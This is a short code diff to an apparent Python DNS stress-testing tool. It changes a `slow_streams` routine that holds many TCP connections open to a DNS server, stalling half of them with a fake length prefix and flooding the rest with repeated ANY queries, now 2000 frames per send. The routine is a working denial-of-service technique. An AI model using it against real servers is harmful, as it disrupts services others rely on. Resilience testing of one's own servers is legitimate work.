@@ -371,14 +371,15 @@ def slow_streams(server: str, count: int, seconds: float) -> Found:
     def attack() -> Found:
         held = []
         refused = cut = 0
-        big = malformed()["update of 1,000 prerequisites"]
-        frame = struct.pack("!H", len(big)) + big
+        asked = query(ZONE, _ANY)  # by streams, all that the zone's own name holds
+        frame = struct.pack("!H", len(asked)) + asked
         for number in range(count):
             try:
                 sock = socket.create_connection((server, _PORT), 3)
             except OSError:
                 refused += 1
                 continue
+            sock.sendall(b"" if number % 2 else b"\xff\xff")
             sock.setblocking(False)
             held.append((sock, number % 2))
         until = time.monotonic() + seconds
@@ -387,7 +388,7 @@ def slow_streams(server: str, count: int, seconds: float) -> Found:
             for one in tuple(alive):
                 sock, reads_nothing = one
                 try:
-                    sock.send(frame * 4 if reads_nothing else b"\0")
+                    sock.send(frame * 2000 if reads_nothing else b"\0")
                 except BlockingIOError:
                     continue
                 except OSError:
